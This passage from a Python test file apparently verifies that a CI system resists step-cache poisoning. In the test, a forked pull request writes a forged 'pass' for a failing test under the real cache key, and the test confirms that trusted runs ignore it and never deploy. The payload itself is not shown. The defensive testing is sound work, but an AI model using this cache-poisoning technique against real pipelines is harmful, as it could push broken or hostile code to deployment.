            client.volumes.get(name).remove(force=True)


def test_a_fork_cannot_poison_the_step_cache_of_trusted_runs(stage: dict[str, Any]) -> None:
    """A fork sends a forged pass for V's failing `test` under the real key; V's next
    trusted push of those sources still runs `test`, fails, and never deploys."""
    server, home, victim, shas = stage["server"], stage["home"], stage["victim"], stage["shas"]
    # Trusted runs of V share the cache: the second run of the same sources is a hit.
    for delivery in ("v-cached-1", "v-cached-2"):
        _push(server, VICTIM, shas["ok"], delivery)
        kit.wait_for(lambda d=delivery: _waiting_at(home, d, "deploy-gate"), timeout=30,
                     what=f"V's run {delivery} at its deploy gate")
    second = _run_of(home, "v-cached-2")
    assert second is not None
    hit = kit.step_row(home, second["id"], "test")
    assert hit is not None and (hit["detail"] or {}).get("cached"), hit

    run_id = _fork_run(server, home, _fork_commit(
        victim, shas["broken"], {".ci/pipeline.py": POISON}, "poison"), "f-poison")
    kit.wait_for(lambda: _status(home, run_id) in ("complete", "errored"), timeout=30,
                 what="the fork's poisoning run")
    output = kit.rows(home, "SELECT output FROM instances WHERE id = ?", run_id)[0][0]
    tries = json.loads(output or "{}")
    assert tries.get("real_exit_code") == 1 and tries.get("cache_put") == "accepted", tries
    # Its writes land under its pull request: its real `test` and the forged pass
    # share one entry (so the forged key is the real one), in its scope alone.
    tenant = str(kit.rows(home, "SELECT tenant FROM instances WHERE id = ?", run_id)[0][0])
    entries = [(r["tenant"], json.loads(r["result"])["output_tail"]) for r in kit.rows(
        home, "SELECT tenant, result FROM step_cache WHERE key = ?", tries["cache_key"])]
    assert entries == [(f"{tenant}#pr-{FORK_PR}", "forged pass")], entries

    # A trusted push of the same sources runs `test`, which fails; `deploy` never runs.
    _push(server, VICTIM, shas["broken"], "v-broken")
    kit.wait_for(lambda: _status_of(home, "v-broken") in ("complete", "errored"), timeout=30,
                 what="V's broken push to end")
    broken = _run_of(home, "v-broken")
    assert broken is not None and broken["status"] == "errored", broken
    test = kit.step_row(home, broken["id"], "test")
    assert test is not None and test["status"] == "failed", test
    assert not (test["detail"] or {}).get("cached"), test
    assert kit.step_row(home, broken["id"], "deploy-gate") is None
    assert kit.step_row(home, broken["id"], "deploy") is None
    for path, before in stage["secrets"].items():
        assert path.read_bytes() == before, f"{path.name} changed"
